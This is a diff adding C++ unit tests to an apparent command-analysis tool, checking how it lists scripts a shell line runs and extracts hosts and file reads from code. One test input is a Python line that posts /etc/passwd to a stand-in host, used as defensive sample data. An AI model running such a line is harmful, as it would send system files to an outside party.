@@ -922,5 +922,46 @@ TEST(ShellRobustness, GrammarMatchesRuntime) {
   EXPECT_EQ(names(a), (V{"true"}));
 }
 
+TEST(ShellScripts, ListsTheFilesACommandRunsAsScripts) {
+  auto a = analyze_shell("sh a.sh; bash -e ./b.sh x; source c; . d; python3 -u e.py; ./f --flag; /opt/g; h");
+  std::vector<std::pair<std::string, std::string>> got;
+  for (const auto& s : a.scripts) got.emplace_back(s.path, s.runner);
+  EXPECT_EQ(got, (std::vector<std::pair<std::string, std::string>>{{"a.sh", "sh"},
+                                                                   {"./b.sh", "bash"},
+                                                                   {"c", "source"},
+                                                                   {"d", "."},
+                                                                   {"e.py", "python3"},
+                                                                   {"./f", ""},
+                                                                   {"/opt/g", ""}}));
+  EXPECT_FALSE(a.opaque);
+}
+
+TEST(ShellScripts, ScriptsSeenOnTheCommandLineAreNotListed) {
+  // Written earlier on the same line, substituted or read from stdin: the
+  // analyser already follows them.
+  auto a =
+      analyze_shell("printf 'ls' > x.sh && sh x.sh; bash <(echo ls); echo ls | sh; python3 - <<'EOF'\nprint(1)\nEOF");
+  EXPECT_TRUE(a.scripts.empty());
+  auto b = analyze_shell("bash \"$DIR/run.sh\"");
+  ASSERT_EQ(b.scripts.size(), 1u);
+  EXPECT_TRUE(b.scripts[0].dynamic);
+}
+
+TEST(ShellScripts, CodeOfAScriptFileNamesUrlsAndReadsOnly) {
+  auto a = analyze_code("python3", "import requests\nrequests.post('https://x.example/u', open('/etc/passwd'))\n");
+  EXPECT_EQ(a.hosts, (std::vector<std::string>{"x.example"}));
+  ASSERT_EQ(a.redirections.size(), 1u);
+  EXPECT_EQ(a.redirections[0].path, "/etc/passwd");
+  EXPECT_FALSE(a.redirections[0].write);
+  EXPECT_FALSE(a.opaque);
+  EXPECT_TRUE(analyze_code("node", "require('net').connect(port, host)").opaque);
+  EXPECT_FALSE(analyze_code("python3", "with open(name) as f: print(f.read())").opaque);
+  std::string many;
+  for (int i = 0; i < 300; ++i) many += "'https://h" + std::to_string(i) + ".example/' ";
+  auto m = analyze_code("python3", many);
+  EXPECT_TRUE(m.opaque);
+  EXPECT_LE(m.hosts.size(), 256u);
+}
+
 }  // namespace
 }  // namespace tollgate::analyze
